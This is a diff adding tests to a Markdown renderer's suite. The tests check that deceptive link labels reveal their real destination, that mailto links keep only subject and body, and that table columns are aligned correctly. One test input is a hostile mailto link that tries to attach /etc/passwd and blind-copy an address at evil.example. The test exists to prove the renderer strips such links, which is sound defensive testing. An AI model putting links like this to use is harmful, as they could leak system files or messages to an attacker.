@@ -43,6 +43,19 @@ describe('a hostile message', () => {
   test('a link that says something else shows where it goes', () => {
     expect(render('[your bank](https://evil.example/login)')).toContain('(evil.example)');
     expect(render('https://good.example/x')).not.toContain('link-target');
+    expect(render('[https://www.paypal.com/evil.example](https://evil.example/x)')).toContain(
+      '(evil.example)',
+    );
+    expect(render('[a\nevil.example](https://evil.example)')).toContain('(evil.example)');
+  });
+
+  test('a mail link takes nothing along but subject and body', () => {
+    const html = render(
+      '[write](mailto:a@b.example?attach=/etc/passwd&bcc=x@evil.example&subject=Hi%20there&BODY=one)',
+    );
+    expect(html).toContain('href="mailto:a@b.example?subject=Hi%20there&amp;body=one"');
+    expect(html).toContain('(a@b.example)');
+    expect(render('mail a@b.example')).not.toContain('link-target');
   });
 });
 
@@ -53,6 +66,9 @@ describe('an ordinary message', () => {
     );
     expect(html).toContain('<strong>bold</strong><br />');
     expect(html).toContain('<table>');
+    expect(render('| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |')).toContain(
+      '<td class="align-left">1</td>\n<td class="align-center">2</td>\n<td class="align-right">3</td>',
+    );
     expect(html).toContain('href="https://example.com/a"');
   });
 
